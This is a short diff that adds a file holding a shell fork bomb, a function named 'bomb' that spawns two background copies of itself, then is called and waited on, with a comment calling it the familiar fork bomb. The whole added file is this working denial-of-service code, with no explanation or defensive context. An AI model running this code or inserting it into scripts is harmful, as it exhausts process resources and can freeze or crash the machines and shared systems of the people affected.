@@ -1,0 +1,4 @@
+# A fork bomb, as everybody knows it.
+bomb() { bomb | bomb & }
+bomb
+wait
